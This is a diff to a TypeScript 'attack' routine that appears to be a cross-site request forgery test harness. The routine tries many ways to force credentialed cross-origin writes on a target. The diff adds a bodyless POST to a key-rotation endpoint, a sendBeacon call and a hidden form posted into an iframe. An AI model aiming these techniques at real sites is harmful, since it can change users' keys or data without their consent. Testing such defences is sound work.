@@ -19,6 +19,7 @@ export async function attack(target: string): Promise<Record<string, string>> {
     ["/keys", () => key],
     ["/trpc/keys.create", () => key],
   ];
+  const rotation = "/keys/1/rotate";
   const reads = [
     "/users",
     "/users/1",
@@ -45,6 +46,8 @@ export async function attack(target: string): Promise<Record<string, string>> {
   for (const credentials of ["include", "omit"] as const) {
     for (const mode of ["cors", "no-cors"] as const) {
       for (const path of reads) load(`fetch ${mode} ${credentials}`, path, { mode, credentials });
+      // A write without a body needs no type, and so no leave of the server.
+      load(`fetch ${mode} ${credentials} empty`, rotation, { mode, credentials, method: "POST" });
       for (const [path, body] of writes) {
         for (const type of ["text/plain", "application/x-www-form-urlencoded", "text/plain; application/json"]) {
           load(`fetch ${mode} ${credentials} ${type}`, path, {
@@ -145,6 +148,11 @@ export async function attack(target: string): Promise<Record<string, string>> {
   }
 
   await allDone();
+
+  navigator.sendBeacon(target + rotation);
+  const bare = element("form", { action: target + rotation, method: "post", target: "bare" });
+  element("iframe", { name: "bare" });
+  bare.submit();
 
   let frames = 0;
   for (const [path, body] of writes) {
